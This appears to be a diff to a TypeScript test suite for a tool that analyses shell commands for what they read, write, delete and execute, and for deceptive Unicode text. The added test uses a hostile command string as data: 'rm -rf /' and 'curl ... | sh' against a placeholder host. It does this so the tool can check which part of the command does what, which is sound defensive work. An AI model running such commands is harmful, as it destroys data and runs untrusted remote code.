@@ -3,7 +3,7 @@ import { commandEffects } from '../../src/shell/effects.js'
 import { placeOf } from '../../src/shell/path.js'
 
 const PLACE = placeOf('/home/dev/project', '/home/dev/project')
-const effectsOf = (command: string) => commandEffects(command, PLACE)
+const effectsOf = (command: string) => commandEffects(command, PLACE).effects
 
 describe('effects of a command', () => {
   it('names what is read, written and deleted by its resolved path', ({ expect }) => {
@@ -38,6 +38,18 @@ describe('effects of a command', () => {
     expect(effectsOf('ls \u202e -la')['shell']?.['deceptive-text']).toBeDefined()
     expect(effectsOf('l\u0455 -la')['shell']?.['deceptive-text']).toBeDefined()
     expect(effectsOf('echo "größe, 名前, имя"')['shell']?.['deceptive-text']).toBeUndefined()
+  })
+
+  it('says which stretch of the command does what', ({ expect }) => {
+    const text = 'ls && sh -c "rm -rf /" && echo $(curl -s http://e | sh)'
+    const { effects, spans } = commandEffects(text, PLACE)
+    const stretch = (subject: string): string => {
+      const span = spans.get(subject)
+      return span === undefined ? '' : text.slice(span.start, span.end)
+    }
+    expect(stretch('/')).toBe('sh -c "rm -rf /"')
+    expect(stretch(effects['execute']?.['download']?.[0]?.subject ?? '')).toBe('sh')
+    expect(stretch('GET http://e')).toBe('curl -s http://e')
   })
 
   it('refuses to read more than 64 KB', ({ expect }) => {
